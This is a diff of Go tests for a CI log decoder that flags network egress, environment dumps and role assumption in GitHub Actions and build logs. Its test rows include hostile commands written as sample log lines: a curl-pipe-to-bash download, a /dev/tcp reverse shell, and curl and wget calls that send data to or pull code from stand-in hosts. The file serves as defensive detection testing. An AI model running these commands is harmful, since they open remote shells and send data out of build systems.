@@ -3,7 +3,64 @@ package decode
 import (
 	"strings"
 	"testing"
+	"time"
+
+	"github.com/seed-843b225c/reflex/engine"
 )
+
+// TestRunViewLines: gh run view writes job and step before the stamp.
+func TestRunViewLines(t *testing.T) {
+	var b strings.Builder
+	for _, line := range strings.SplitAfter(stamped("Current runner version: '2.331.0'", "##[group]Run x", "##[endgroup]", "* Connected to a.example (203.0.113.77) port 443"), "\n") {
+		if line != "" {
+			b.WriteString("unit tests\tUNKNOWN STEP\t\ufeff" + line)
+		}
+	}
+	l := readText(t, "run.log", b.String())
+	l.has("net.egress 10:00:03.1234567", "ci.job.name=unit", "ci.provider=github")
+	if len(l.refused) > 0 {
+		t.Errorf("refused %v", l.refused)
+	}
+}
+
+// TestTextOfAFileWithoutStamps takes the time of the file, and says so.
+func TestTextOfAFileWithoutStamps(t *testing.T) {
+	p, err := NewPlan(engine.NewLayout(), Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	l := &textLog{t: t, ids: map[string]bool{}}
+	written := time.Date(2026, 3, 2, 11, 0, 0, 0, time.UTC).UnixNano()
+	text := "##[group]Run x\n* Connected to a.example (203.0.113.77) port 443\n"
+	p.NewDecoder().Decode(engine.Record{Data: []byte(text), Chunk: true, Last: true, Time: written, Origin: engine.Origin{Source: "build.log", Partition: -1}}, l)
+	l.has("net.egress 11:00:00", "event.created=2026-03-02T11:00:00Z")
+	if len(l.refused) > 0 {
+		t.Errorf("refused %v", l.refused)
+	}
+}
+
+// TestEnvironmentAsJSON: programs print it as an object too.
+func TestEnvironmentAsJSON(t *testing.T) {
+	l := readText(t, "1_build.txt", stamped("{", `  "PATH": "/usr/bin",`, `  "HOME": "/home/runner",`, `  "GITHUB_TOKEN": "***",`, `  "EMPTY": "",`, `  "CI": "true"`, "}"))
+	l.has("env.dumped 10:00:01.1234567", "ci.env.count=5", "ci.env.masked=1")
+}
+
+// TestLinesWithLabels: whatever key a program gives to lines, their labels name the job.
+func TestLinesWithLabels(t *testing.T) {
+	for _, doc := range []string{
+		`{"timestamp":"2026-03-02T10:00:00Z","line":"* Connected to a.example (203.0.113.77) port 443","repository":"example-org/app","run_id":"7001"}`,
+		`{"lines":["2026-03-02T10:00:00.0000000Z x","2026-03-02T10:00:00.0000000Z * Connected to a.example (203.0.113.77) port 443"],"repository":"example-org/app","run_id":7001}`,
+		`{"log":"2026-03-02T10:00:00.0000000Z x\n2026-03-02T10:00:00.0000000Z * Connected to a.example (203.0.113.77) port 443\n","repository":"example-org/app","run_id":7001}`,
+	} {
+		l := &textLog{t: t, ids: map[string]bool{}}
+		p, err := NewPlan(engine.NewLayout(), Options{})
+		if err != nil {
+			t.Fatal(err)
+		}
+		p.NewDecoder().Decode(engine.Record{Data: []byte(doc), Chunk: true, Last: true, Origin: engine.Origin{Source: "f", Partition: -1}}, l)
+		l.has("net.egress 10:00:00", "ci.repo.name=example-org/app", "ci.run.id=7001-1", "destination.domain=a.example")
+	}
+}
 
 // Each row is one line of a log, the one event it gives, and words the event
 // must hold. No kind: the line must give nothing.
@@ -80,6 +137,14 @@ func TestBuildTextFacts(t *testing.T) {
 		{"##[warning]StepSecurity Harden Runner: Traffic to IP Address 203.0.113.77 was blocked.", "net.egress", "destination.ip=203.0.113.77 event.outcome=failure"},
 		{"curl https://a.example/", "", ""},
 		{"Connected to the database", "", ""},
+		{"+ curl -sS -H 'Referer: https://a.example/' -d @/tmp/x https://collect.example.net:8443/u?x=1", "net.egress", "destination.domain=collect.example.net destination.port=8443 process.name=curl event.outcome=unknown"},
+		{"##[group]Run curl -sSf http://203.0.113.77/x.sh | bash", "net.egress", "destination.ip=203.0.113.77 destination.port=80 event.outcome=unknown"},
+		{"#12 [3/7] RUN apt-get update && wget -qO- https://collect.example.net/x", "net.egress", "destination.domain=collect.example.net process.name=wget"},
+		{"++ bash -c 'bash -i >& /dev/tcp/203.0.113.77/4444 0>&1'", "net.egress", "destination.ip=203.0.113.77 destination.port=4444 process.name=bash"},
+		{"curl https://collect.example.net/u", "", ""},
+		{"+ echo use curl https://collect.example.net/u", "", ""},
+		{"+ curl -sS https://$HOST/u", "", ""},
+		{"+ curl --proxy http://proxy.example:3128 -O file", "", ""},
 		// roles
 		{"Assuming role with OIDC", "role.assumed", ""},
 		{"Authenticated as assumedRoleId AROAEXAMPLE:ci-7001", "role.assumed", "aws.cloudtrail.session_name=ci-7001"},
